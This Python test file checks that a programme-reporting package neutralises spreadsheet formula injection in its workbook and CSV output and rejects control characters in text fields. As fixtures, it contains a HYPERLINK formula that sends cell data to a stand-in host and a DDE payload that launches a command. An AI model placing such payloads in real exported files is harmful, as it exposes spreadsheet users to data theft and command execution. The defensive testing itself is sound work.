"""Output that cannot be turned against its reader: text stays text in workbooks, CSV cells that a
spreadsheet would take for formulas are neutralised (and read back unchanged), and text fields refuse
control characters at load time."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import ezhou_recovery as er
from ezhou_recovery.cli import EXIT_OK, main
from ezhou_recovery.io._reading import FORMULA_STARTS, escape_formula, unescape_formula
from ezhou_recovery.io.records import write_csv
from ezhou_recovery.io.xlsx.forms import write_reporting_workbook
from ezhou_recovery.io.xlsx.report import write_report_workbook

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "docs" / "examples" / "small_programme.toml"
LINK = '=HYPERLINK("http://example.invalid/?"&A1,"details")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    text = SAMPLE.read_text(encoding="utf-8")
    text = text.replace('name_zh = "县交通运输局"', f"name_zh = '{LINK}'", 1)
    text = text.replace('description_en = "Build or rebuild 60 km', 'description_en = "+1 km', 1)
    text = text.replace('name_en = "Transport"', 'name_en = "@SUM(1+1)"', 1)
    path = tmp_path_factory.mktemp("hostile") / "hostile.toml"
    path.write_text(text, encoding="utf-8")
    return path


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_every_workbook_written_stores_text_as_text(hostile: Path, tmp_path: Path) -> None:
    plan = er.load_programme(hostile)
    department = plan.categories[0].lead_departments[0]
    assert department.name_zh == LINK
    reporting = write_reporting_workbook(
        plan, department.key, tmp_path / "r.xlsx", period=er.quarter_of(date(2021, 5, 1))
    )
    assessment = er.assess(plan, [], as_of=date(2021, 6, 30))
    report = write_report_workbook(
        assessment, er.compliance(plan, [], date(2021, 7, 15)), tmp_path / "report.xlsx"
    )
    for path in (reporting, report):
        cells = _cells(path)
        assert not [c.coordinate for c in cells if c.data_type == "f"], path
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert texts & {LINK, "+1 km of rural roads", "@SUM(1+1)"}, path
    assert LINK in {c.value for c in _cells(reporting)}


def test_cli_csv_neutralises_formula_text_and_leaves_numbers(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["plan", "--programme", str(hostile), "--format", "csv"]) == EXIT_OK
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out)))
    cells = [cell for row in rows for cell in row]
    assert all(not cell.startswith(FORMULA_STARTS) or _number(cell) for cell in cells)
    assert any(cell.startswith("'+1 km") for cell in cells)


def _number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def test_write_csv_escapes_text_only() -> None:
    out = io.StringIO()
    rows = [{"a": "=1+2", "b": Decimal("-1.9"), "c": "-4%", "d": Decimal("-0.04"), "e": "@x"}]
    write_csv(rows, list(rows[0]), out)  # type: ignore[arg-type]
    assert out.getvalue().splitlines()[1] == "'=1+2,-1.9,'-4%,-0.04,'@x"


@given(st.text())
def test_escaping_round_trips_every_text(text: str) -> None:
    escaped = escape_formula(text)
    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_formula(escaped) == text


def test_loaders_read_back_what_the_writer_escaped(tmp_path: Path) -> None:
    plan = er.load_ezhou_plan()
    out = io.StringIO()
    source = "=cmd|' /C calc'!A0"
    records = [
        {"target": "transport.rural_roads", "as_of": "2021-06-30", "value": "5", "source": source}
    ]
    write_csv(records, ["target", "as_of", "value", "source"], out)  # type: ignore[arg-type]
    assert f"'{source}" in out.getvalue()
    path = tmp_path / "o.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    (per_object,) = er.load_observations(path, plan)
    table = er.load_observations(path, plan, columnar=True)
    assert per_object.source == source
    assert table.observation(0).source == source


@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\ud800"])
def test_a_text_field_with_a_control_character_is_refused_at_load(
    tmp_path: Path, character: str
) -> None:
    text = SAMPLE.read_text(encoding="utf-8")
    escaped = f"\\u{ord(character):04x}" if ord(character) < 0xD800 else "\\ud800"
    text = text.replace('name_en = "Transport"', f'name_en = "Trans{escaped}port"', 1)
    path = tmp_path / "p.toml"
    path.write_text(text, encoding="utf-8")
    if character == "\ud800":  # TOML cannot hold a lone surrogate: the parser refuses it
        with pytest.raises(er.LoadError, match="not valid TOML"):
            er.load_programme(path)
        return
    with pytest.raises(er.LoadError, match=f"U\\+{ord(character):04X}") as error:
        er.load_programme(path)
    assert "categories[0].name_en" in str(error.value)


def test_a_lone_surrogate_from_json_or_python_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "o.json"
    path.write_text(
        '[{"target": "transport.rural_roads", "as_of": "2021-06-30", "value": "5", '
        '"source": "a\\ud800b"}]',
        encoding="utf-8",
    )
    with pytest.raises(er.LoadError, match=r"\[0\]\.source: .*U\+D800"):
        er.load_observations(path, er.load_ezhou_plan())
    with pytest.raises(er.InvariantError, match="U\\+0000"):
        er.Observation("a.b", date(2021, 1, 1), True, source="x\x00")


def test_tab_and_line_breaks_are_allowed_in_text() -> None:
    observation = er.Observation("a.b", date(2021, 1, 1), True, source="line one\n\tline two\r\n")
    assert observation.source is not None
